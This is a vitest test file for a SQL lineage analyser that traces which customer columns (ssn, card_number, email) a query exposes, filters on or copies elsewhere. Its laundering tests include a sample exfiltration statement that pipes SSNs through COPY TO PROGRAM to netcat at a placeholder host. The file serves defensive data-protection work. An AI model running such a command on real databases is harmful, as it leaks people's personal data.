// lineage() against the real shop database: the catalog comes from information_schema of the
// harness PostgreSQL, and PostgreSQL's own RowDescription is used as a cross-check.
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  classify,
  initSqlParser,
  lineage,
  type CatalogView,
  type LineageResult,
  type OutputColumn,
  type PredicateColumn,
} from '../../src/sql/index.js';
import { directUrl } from '../helpers/pg-env.js';

let client: pg.Client;
let catalog: CatalogView;
let customerColumns: string[];

/** A CatalogView over information_schema, resolving unqualified names through search_path. */
async function loadCatalog(c: pg.Client): Promise<CatalogView> {
  const cols = await c.query<{ table_schema: string; table_name: string; column_name: string }>(
    `SELECT table_schema, table_name, column_name FROM information_schema.columns
      WHERE table_schema NOT IN ('pg_catalog', 'information_schema')
      ORDER BY table_schema, table_name, ordinal_position`,
  );
  const path = (await c.query<{ s: string[] }>('SELECT current_schemas(false)::text[] AS s')).rows[0]!.s;
  const bySchema = new Map<string, Map<string, string[]>>();
  for (const r of cols.rows) {
    const tables = bySchema.get(r.table_schema) ?? new Map<string, string[]>();
    bySchema.set(r.table_schema, tables);
    tables.set(r.table_name, [...(tables.get(r.table_name) ?? []), r.column_name]);
  }
  return {
    columnsOf(schema, table) {
      if (schema !== undefined) return bySchema.get(schema)?.get(table);
      for (const s of path) {
        const hit = bySchema.get(s)?.get(table);
        if (hit) return hit;
      }
      return undefined;
    },
  };
}

beforeAll(async () => {
  await initSqlParser();
  client = new pg.Client({ connectionString: directUrl() });
  await client.connect();
  catalog = await loadCatalog(client);
  customerColumns = [...(catalog.columnsOf(undefined, 'customers') ?? [])];
});

afterAll(async () => {
  await client?.end();
});

function run(sql: string): LineageResult {
  const c = classify(sql);
  if (!c.ok) throw new Error(`${sql}: ${c.error}`);
  expect(c.statements).toHaveLength(1);
  return lineage(c.statements[0]!, catalog);
}

const names = (col: OutputColumn | undefined): string[] => (col?.sources ?? []).map((s) => `${s.schema ? `${s.schema}.` : ''}${s.table}.${s.column}`).sort();
const cust = (...cols: string[]): string[] => cols.map((c) => `customers.${c}`).sort();
const preds = (r: LineageResult): string[] => r.predicateColumns.map((p: PredicateColumn) => `${p.clause} ${p.column.table}.${p.column.column} ${p.comparedWith}`).sort();

describe('lineage(): output columns', () => {
  it('the catalog comes from the real database', () => {
    expect(customerColumns).toHaveLength(17);
    expect(customerColumns.slice(0, 4)).toEqual(['id', 'full_name', 'email', 'ssn']);
    expect(catalog.columnsOf(undefined, 'active_customers')).toEqual(['id', 'full_name', 'email', 'card_number']);
    expect(catalog.columnsOf('public', 'orders')).toHaveLength(5);
    expect(catalog.columnsOf(undefined, 'nosuch')).toBeUndefined();
  });

  it('follows aliases and keeps direct pass-through', () => {
    const r = run('SELECT c.ssn AS national_id, c.email FROM customers AS c');
    expect(r.output).toBe('rows');
    expect(r.columns.map((c) => c.name)).toEqual(['national_id', 'email']);
    expect(names(r.columns[0])).toEqual(cust('ssn'));
    expect(r.columns[0]!.derivation).toBe('direct');
    expect(r.columns.every((c) => !c.unresolved)).toBe(true);
  });

  it('reports a view as a source relation (the caller resolves views)', () => {
    const r = run('SELECT email, card_number FROM active_customers WHERE id < 5');
    expect(names(r.columns[0])).toEqual(['active_customers.email']);
    expect(names(r.columns[1])).toEqual(['active_customers.card_number']);
    expect(r.columns.every((c) => !c.unresolved && c.derivation === 'direct')).toBe(true);
  });

  it('keeps the schema as written', () => {
    const r = run('SELECT p.email FROM public.customers p');
    expect(r.columns[0]!.sources).toEqual([{ schema: 'public', table: 'customers', column: 'email' }]);
  });

  it('follows subqueries in FROM, renamed columns and nested aliases', () => {
    const r = run('SELECT s.x, s.y FROM (SELECT inner1.e AS x, id AS y FROM (SELECT email AS e, id FROM customers) inner1) AS s(x, y)');
    expect(names(r.columns[0])).toEqual(cust('email'));
    expect(names(r.columns[1])).toEqual(cust('id'));
  });

  it('follows CTEs, including a CTE that shadows a table name', () => {
    const r = run('WITH customers AS (SELECT ssn AS email FROM public.customers) SELECT email FROM customers');
    expect(r.columns[0]!.sources).toEqual([{ schema: 'public', table: 'customers', column: 'ssn' }]);
  });

  it('reaches a fixed point through recursive CTEs', () => {
    const r = run(`WITH RECURSIVE chain(id, secret) AS (
        SELECT id, ssn::text FROM customers WHERE id = 1
        UNION ALL
        SELECT c.id, chain.secret || c.card_number FROM customers c JOIN chain ON c.id = chain.id + 1)
      SELECT secret FROM chain`);
    // card_number enters only through the recursive term.
    expect(names(r.columns[0])).toEqual(cust('card_number', 'ssn'));
    expect(r.columns[0]!.derivation).toBe('derived');
    expect(r.columns[0]!.unresolved).toBe(false);
  });

  it('derives each UNION / INTERSECT / EXCEPT column from every branch', () => {
    const r = run('SELECT email, id FROM customers UNION ALL SELECT status, customer_id FROM orders EXCEPT SELECT full_name, 0 FROM customers');
    expect(names(r.columns[0])).toEqual(['customers.email', 'customers.full_name', 'orders.status']);
    expect(names(r.columns[1])).toEqual(['customers.id', 'orders.customer_id']);
    expect(r.columns[0]!.derivation).toBe('direct');
  });

  it('marks CASE, casts, concatenation and arithmetic as derived', () => {
    const r = run(`SELECT CASE WHEN salary > 100000 THEN 'high' ELSE full_name END AS band,
                          ssn::text, CAST(balance AS int) AS b,
                          full_name || ' <' || email || '>' AS contact,
                          salary * 12 + balance AS yearly
                     FROM customers`);
    expect(r.columns.map((c) => c.name)).toEqual(['band', 'ssn', 'b', 'contact', 'yearly']);
    expect(names(r.columns[0])).toEqual(cust('full_name', 'salary'));
    expect(r.columns[0]!.transforms).toContain('case');
    expect(r.columns[1]!.transforms).toEqual(['cast']);
    expect(names(r.columns[3])).toEqual(cust('email', 'full_name'));
    expect(r.columns[3]!.transforms).toEqual(['concat']);
    expect(r.columns[4]!.transforms).toEqual(['arithmetic']);
    for (const c of r.columns) expect(c.derivation).toBe('derived');
  });

  it('traces aggregates and window functions, and counts as constant', () => {
    const r = run(`SELECT max(salary), string_agg(email, ',' ORDER BY ssn), count(*),
                          rank() OVER (PARTITION BY is_active ORDER BY birth_date) AS r
                     FROM customers GROUP BY is_active, birth_date`);
    expect(names(r.columns[0])).toEqual(cust('salary'));
    expect(r.columns[0]!.transforms).toEqual(['aggregate']);
    expect(names(r.columns[1])).toEqual(cust('email', 'ssn'));
    expect(r.columns[2]!.derivation).toBe('constant');
    expect(names(r.columns[3])).toEqual(cust('birth_date', 'is_active'));
    expect(r.columns[3]!.transforms).toEqual(['window']);
  });

  it('treats whole-row references as deriving from every column', () => {
    const r = run('SELECT row_to_json(c.*), to_jsonb(c), json_agg(c), c, ROW(c.*) FROM customers c GROUP BY c.id');
    for (const col of r.columns) {
      expect(col.derivation, col.name).toBe('whole_row');
      expect(names(col), col.name).toEqual(cust(...customerColumns));
      expect(col.unresolved).toBe(false);
    }
    expect(r.columns.map((c) => c.name)).toEqual(['row_to_json', 'to_jsonb', 'json_agg', 'c', 'row']);
  });

  it('SELECT c FROM customers c is a whole row, but a column named like the alias wins', () => {
    expect(run('SELECT c FROM customers c').columns[0]!.derivation).toBe('whole_row');
    const r = run('SELECT email FROM customers email');
    expect(r.columns[0]!.derivation).toBe('direct');
    expect(names(r.columns[0])).toEqual(cust('email'));
  });

  it('follows LATERAL subqueries and functions over earlier FROM items', () => {
    const r = run(`SELECT c.id, o.amount, u.word
                     FROM customers c,
                          LATERAL (SELECT amount FROM orders WHERE customer_id = c.id ORDER BY placed_at DESC LIMIT 1) o,
                          LATERAL unnest(string_to_array(c.notes, ' ')) AS u(word)`);
    expect(names(r.columns[1])).toEqual(['orders.amount']);
    expect(names(r.columns[2])).toEqual(cust('notes'));
    expect(r.columns[2]!.unresolved).toBe(false);
  });

  it('expands * through the catalog, in attribute order, across joins and USING', () => {
    const all = run('SELECT * FROM customers');
    expect(all.columns.map((c) => c.name)).toEqual(customerColumns);
    expect(all.shapeKnown).toBe(true);
    const joined = run('SELECT * FROM customers c JOIN orders o ON o.customer_id = c.id');
    expect(joined.columns).toHaveLength(22);
    const using = run('SELECT * FROM customers JOIN orders USING (id)');
    expect(using.columns).toHaveLength(21);
    expect(names(using.columns[0])).toEqual(['customers.id', 'orders.id']);
    const qualified = run('SELECT o.*, c.email FROM customers c JOIN orders o ON true');
    expect(qualified.columns.map((c) => c.name)).toEqual(['id', 'customer_id', 'placed_at', 'amount', 'status', 'email']);
  });

  it('resolves the merged JOIN USING column and the join alias', () => {
    const r = run('SELECT id, j.id, x.status FROM customers JOIN orders x USING (id) AS j');
    expect(names(r.columns[0])).toEqual(['customers.id', 'orders.id']);
    expect(names(r.columns[1])).toEqual(['customers.id', 'orders.id']);
    expect(names(r.columns[2])).toEqual(['orders.status']);
  });

  it('traces scalar subqueries in the select list, correlated or not', () => {
    const r = run('SELECT (SELECT c.email FROM customers c WHERE c.id = o.customer_id) AS who, (SELECT max(salary) FROM customers), ARRAY(SELECT ssn FROM customers) FROM orders o');
    expect(names(r.columns[0])).toEqual(cust('email'));
    expect(r.columns[0]!.transforms).toContain('subquery');
    expect(r.columns.map((c) => c.name)).toEqual(['who', 'max', 'array']);
    expect(names(r.columns[2])).toEqual(cust('ssn'));
  });

  it('system columns carry no user data', () => {
    const r = run('SELECT ctid, c.xmin, tableoid::regclass FROM customers c');
    expect(r.columns.every((c) => !c.unresolved && c.sources.length === 0)).toBe(true);
  });

  it('VALUES and literals derive from nothing', () => {
    const r = run("SELECT * FROM (VALUES (1, 'a'), (2, $1)) AS v(n, s)");
    expect(r.columns.map((c) => c.name)).toEqual(['n', 's']);
    expect(r.columns.every((c) => c.derivation === 'constant' && c.sources.length === 0)).toBe(true);
  });

  it('marks what it cannot trace as unresolved (fail closed)', () => {
    const unknownTable = run('SELECT a, b FROM nosuch');
    expect(unknownTable.columns.every((c) => c.unresolved)).toBe(true);
    const unknownStar = run('SELECT c.email, n.* FROM customers c, nosuch n');
    expect(unknownStar.shapeKnown).toBe(false);
    expect(unknownStar.columns[0]!.unresolved).toBe(false);
    expect(unknownStar.columns[1]!.unresolved).toBe(true);
    const userFunction = run('SELECT my_decrypt(ssn) FROM customers');
    expect(userFunction.columns[0]!.unresolved).toBe(true);
    expect(names(userFunction.columns[0])).toEqual(cust('ssn'));
    const srf = run('SELECT * FROM get_customers()');
    expect(srf.shapeKnown).toBe(false);
    expect(srf.columns.every((c) => c.unresolved)).toBe(true);
    const functional = run('SELECT c.fullname FROM customers c');
    expect(functional.columns[0]!.unresolved).toBe(true);
    const customOp = run('SELECT ssn === 1 FROM customers');
    expect(customOp.columns[0]!.unresolved).toBe(true);
    expect(unknownTable.unresolved.length).toBeGreaterThan(0);
  });

  it('describes RETURNING of INSERT, UPDATE, DELETE and MERGE', () => {
    const upd = run('UPDATE customers SET notes = ssn WHERE id = 1 RETURNING id, notes');
    expect(upd.output).toBe('rows');
    expect(names(upd.columns[1])).toEqual(cust('notes', 'ssn'));
    const ins = run('INSERT INTO orders (customer_id, placed_at, amount, status) SELECT id, now(), salary, email FROM customers RETURNING status, amount');
    expect(names(ins.columns[0])).toEqual(['customers.email', 'orders.status']);
    expect(names(ins.columns[1])).toEqual(['customers.salary', 'orders.amount']);
    const del = run('DELETE FROM customers WHERE id = 99 RETURNING *');
    expect(del.columns.map((c) => c.name)).toEqual(customerColumns);
    const merge = run(`MERGE INTO orders o USING customers c ON o.customer_id = c.id
                         WHEN MATCHED THEN UPDATE SET status = c.email RETURNING o.status, c.ssn`);
    expect(names(merge.columns[0])).toEqual(['customers.email', 'orders.status']);
    expect(names(merge.columns[1])).toEqual(cust('ssn'));
    expect(run('DELETE FROM customers WHERE id = 99').output).toBe('none');
  });

  it('describes COPY (query) TO STDOUT and COPY table TO STDOUT', () => {
    const q = run('COPY (SELECT email, ssn FROM customers) TO STDOUT WITH (FORMAT csv)');
    expect(q.output).toBe('rows');
    expect(q.columns.map(names)).toEqual([cust('email'), cust('ssn')]);
    const t = run('COPY customers (ssn, email) TO STDOUT');
    expect(t.columns.map(names)).toEqual([cust('ssn'), cust('email')]);
    expect(run('COPY customers FROM STDIN').output).toBe('none');
  });

  it('says which statements return rows it cannot describe', () => {
    expect(run('EXECUTE q(1)').output).toBe('opaque');
    expect(run('FETCH 5 FROM c1').output).toBe('opaque');
    expect(run('CALL p()').output).toBe('opaque');
    expect(run('SET search_path = public').output).toBe('none');
    expect(run('SHOW search_path').columns.map((c) => c.name)).toEqual(['search_path']);
    const prep = run('PREPARE q AS SELECT ssn FROM customers WHERE id = $1');
    expect(prep.output).toBe('rows');
    expect(names(prep.columns[0])).toEqual(cust('ssn'));
  });

  it('agrees with PostgreSQL: names match RowDescription, and every column it traces to a table is among the sources', async () => {
    const oids = await client.query<{ oid: number; relname: string }>("SELECT c.oid::int AS oid, c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'public'");
    const relname = new Map(oids.rows.map((r) => [r.oid, r.relname]));
    const queries = [
      'SELECT * FROM customers',
      'SELECT c.*, o.amount FROM customers c JOIN orders o ON o.customer_id = c.id',
      'SELECT x.e FROM (SELECT email AS e FROM customers) x',
      'WITH t AS (SELECT ssn, id FROM customers) SELECT * FROM t',
      'SELECT * FROM customers JOIN orders USING (id)',
      'SELECT email AS "Mail", lower(email), 1 AS one, now(), ssn::text, CASE WHEN true THEN email END, coalesce(email, ssn), (SELECT 1), EXISTS (SELECT 1), ARRAY[1], ROW(1, 2), current_user, email IS NULL FROM customers',
      'SELECT count(*), max(salary), min(birth_date)::text, extract(year from birth_date) FROM customers GROUP BY birth_date',
      'SELECT * FROM active_customers',
    ];
    for (const sql of queries) {
      const res = await client.query({ text: `${sql} LIMIT 0`, rowMode: 'array' });
      const r = run(sql);
      expect(r.columns.map((c) => c.name), sql).toEqual(res.fields.map((f) => f.name));
      res.fields.forEach((f, i) => {
        if (f.tableID === 0) return;
        const table = relname.get(f.tableID);
        const column = (catalog.columnsOf(undefined, table ?? '') ?? [])[f.columnID - 1];
        expect(names(r.columns[i]), `${sql} / ${f.name}`).toContain(`${table}.${column}`);
      });
    }
  });
});

describe('lineage(): predicate columns', () => {
  it('says what each filtered column is compared with', () => {
    const r = run("SELECT id FROM customers WHERE ssn LIKE '123%' AND salary > 100000 AND email = $1 AND card_number ~ '^4' AND notes IS NULL AND lower(full_name) = 'bob'");
    expect(preds(r)).toEqual([
      'where customers.card_number pattern',
      'where customers.email parameter',
      'where customers.full_name constant',
      'where customers.notes null',
      'where customers.salary constant',
      'where customers.ssn pattern',
    ]);
    expect(r.predicateColumns.find((p) => p.column.column === 'full_name')!.direct).toBe(false);
    expect(r.predicateColumns.find((p) => p.column.column === 'ssn')!.direct).toBe(true);
    expect(r.predicatesComplete).toBe(true);
  });

  it('finds predicates in IN lists, BETWEEN, subqueries, EXISTS and ANY', () => {
    const r = run(`SELECT o.id FROM orders o
                    WHERE o.customer_id IN (SELECT id FROM customers WHERE ssn BETWEEN '900' AND '950')
                      AND EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND c.email IN ('a@x', 'b@x'))
                      AND o.status = ANY ($2)`);
    expect(preds(r)).toEqual([
      'where customers.email constant',
      'where customers.id column',
      'where customers.ssn constant',
      'where orders.customer_id column',
      'where orders.status parameter',
    ]);
  });

  it('covers JOIN ON, GROUP BY, HAVING, ORDER BY, DISTINCT ON, windows, LIMIT and INTERSECT', () => {
    const r = run(`SELECT DISTINCT ON (c.email) c.email, sum(o.amount) OVER w
                     FROM customers c JOIN orders o ON o.customer_id = c.id AND o.amount > 10
                    GROUP BY c.email, c.ssn, o.amount
                   HAVING max(c.salary) > 50000
                   WINDOW w AS (PARTITION BY c.birth_date)
                    ORDER BY c.email, c.ssn DESC
                    LIMIT (SELECT count(*) FROM customers WHERE card_number IS NULL)`);
    expect(preds(r)).toEqual(expect.arrayContaining([
      'join orders.customer_id column',
      'join customers.id column',
      'join orders.amount constant',
      'group_by customers.ssn none',
      'having customers.salary constant',
      'order_by customers.ssn none',
      'distinct_on customers.email none',
      'window customers.birth_date none',
      'where customers.card_number null',
    ]));
    // IS NOT NULL in WHERE may be served by an index, which returns rows in the column's order.
    expect(preds(run('SELECT id FROM customers WHERE card_number IS NOT NULL OR NOT (ssn IS NULL)'))).toEqual(['where customers.card_number none', 'where customers.ssn none']);
    expect(preds(run("SELECT id FROM customers WHERE nullif(ssn, 'x') IS NULL"))).toEqual(['where customers.ssn none']);
    const i = run("SELECT ssn FROM customers INTERSECT SELECT '941-74-7468'");
    expect(preds(i)).toEqual(['set_operation customers.ssn constant']);
  });

  it('sees ORDER BY an output alias or position as the column behind it', () => {
    const r = run('SELECT ssn AS s, email FROM customers ORDER BY s, 2');
    expect(preds(r)).toEqual(['order_by customers.email none', 'order_by customers.ssn none']);
  });

  it('reports predicates of UPDATE/DELETE/EXPLAIN, where row counts leak them', () => {
    expect(preds(run("DELETE FROM customers WHERE ssn = '941-74-7468'"))).toEqual(['where customers.ssn constant']);
    expect(preds(run('UPDATE orders SET status = status WHERE amount > $1'))).toEqual(['where orders.amount parameter']);
    expect(preds(run("EXPLAIN ANALYZE SELECT 1 FROM customers WHERE card_number LIKE '4111%'"))).toEqual(['where customers.card_number pattern']);
  });

  it('flags predicates it cannot trace', () => {
    const r = run('SELECT id FROM customers WHERE is_valid(ssn)');
    expect(preds(r)).toEqual(['where customers.ssn none']);
    expect(r.predicatesComplete).toBe(false);
  });
});

describe('lineage(): laundering', () => {
  const launder = (sql: string) =>
    run(sql).laundering.map((l) => ({ kind: l.kind, target: l.target, sources: l.sources.map((s) => `${s.table}.${s.column}`).sort(), unresolved: l.unresolved }));

  it('CREATE TABLE AS, SELECT INTO, materialized views and views', () => {
    expect(launder('CREATE TABLE stash AS SELECT ssn, full_name FROM customers')).toEqual([
      { kind: 'create_table_as', target: { table: 'stash' }, sources: cust('full_name', 'ssn'), unresolved: false },
    ]);
    expect(launder('SELECT ssn INTO TEMP stash FROM customers')).toEqual([
      { kind: 'select_into', target: { table: 'stash' }, sources: cust('ssn'), unresolved: false },
    ]);
    expect(launder('CREATE MATERIALIZED VIEW mv AS SELECT card_number FROM customers')[0]!.kind).toBe('create_matview');
    expect(launder('CREATE VIEW v AS SELECT c.* FROM customers c')[0]!.sources).toEqual(cust(...customerColumns));
    expect(run('CREATE TABLE stash AS SELECT ssn FROM customers').output).toBe('none');
  });

  it('INSERT … SELECT, including through a data-modifying CTE', () => {
    expect(launder('INSERT INTO orders (customer_id, placed_at, amount, status) SELECT id, now(), 1, ssn FROM customers')).toEqual([
      { kind: 'insert_select', target: { table: 'orders' }, sources: cust('id', 'ssn'), unresolved: false },
    ]);
    const cte = launder('WITH gone AS (DELETE FROM customers RETURNING *) INSERT INTO orders (status) SELECT email FROM gone');
    expect(cte).toEqual([{ kind: 'insert_select', target: { table: 'orders' }, sources: cust('email'), unresolved: false }]);
    expect(launder("INSERT INTO orders (status) VALUES ('x')")).toEqual([]);
  });

  it('UPDATE … SET col = other columns, and UPDATE … FROM', () => {
    // A column set to a value computed from itself counts too: a partial mask of reverse(x) shows
    // what the mask of x hides. Only the column unchanged moves nothing.
    expect(launder('UPDATE customers SET notes = ssn || card_number, salary = salary * 2 WHERE id = 1')).toEqual([
      { kind: 'update_set', target: { table: 'customers' }, sources: cust('card_number', 'salary', 'ssn'), unresolved: false },
    ]);
    expect(launder('UPDATE orders o SET status = c.email FROM customers c WHERE c.id = o.customer_id')[0]!.sources).toEqual(cust('email'));
    expect(launder('UPDATE customers SET salary = salary + 1')[0]!.sources).toEqual(cust('salary'));
    expect(launder('UPDATE customers SET salary = salary, ssn = customers.ssn')).toEqual([]);
  });

  it('MERGE and COPY (query) TO a file or program', () => {
    expect(launder('MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN NOT MATCHED THEN INSERT (customer_id, placed_at, amount, status) VALUES (c.id, now(), 0, c.ssn)')[0]).toEqual({
      kind: 'merge', target: { table: 'orders' }, sources: cust('id', 'ssn'), unresolved: false,
    });
    expect(launder("COPY (SELECT email FROM customers) TO '/tmp/e.csv'")).toEqual([
      { kind: 'copy_to_file', target: { file: '/tmp/e.csv' }, sources: cust('email'), unresolved: false },
    ]);
    expect(launder("COPY customers (ssn) TO PROGRAM 'nc evil 9'")).toEqual([
      { kind: 'copy_to_program', target: { program: 'nc evil 9' }, sources: cust('ssn'), unresolved: false },
    ]);
    expect(launder('COPY (SELECT email FROM customers) TO STDOUT')).toEqual([]);
  });

  it('marks copies it cannot trace as unresolved', () => {
    expect(launder('INSERT INTO orders SELECT * FROM nosuch')[0]!.unresolved).toBe(true);
    expect(launder('CREATE TABLE x AS SELECT my_func(ssn) FROM customers')[0]!.unresolved).toBe(true);
  });

  it('says when a statement may copy data through code it cannot see', () => {
    expect(run('SELECT 1').launderingComplete).toBe(true);
    expect(run('CALL archive_customers()').launderingComplete).toBe(false);
    expect(run("DO $$BEGIN INSERT INTO stash SELECT ssn FROM customers; END$$").launderingComplete).toBe(false);
    expect(run('EXECUTE q').launderingComplete).toBe(false);
  });

  it('reports renames, which hide data from rules that match by name', () => {
    expect(launder('ALTER TABLE customers RENAME COLUMN ssn TO harmless')).toEqual([
      { kind: 'rename', target: { table: 'customers' }, sources: cust('ssn'), unresolved: false },
    ]);
  });
});

describe('lineage(): limits', () => {
  it('gives up as opaque past its work limit rather than guessing', () => {
    const c = classify('SELECT a.email FROM customers a, customers b, customers c WHERE a.id = b.id AND b.id = c.id');
    if (!c.ok) throw new Error(c.error);
    const r = lineage(c.statements[0]!, catalog, { maxSteps: 3 });
    expect(r.output).toBe('opaque');
    expect(r.launderingComplete).toBe(false);
    expect(r.predicatesComplete).toBe(false);
    expect(r.unresolved[0]).toMatch(/work limit/);
  });

  it('accepts a raw parse tree as well as a StatementInfo', () => {
    const c = classify('SELECT email FROM customers');
    if (!c.ok) throw new Error(c.error);
    expect(lineage(c.statements[0]!.tree, catalog).columns[0]!.sources).toEqual([{ table: 'customers', column: 'email' }]);
  });
});
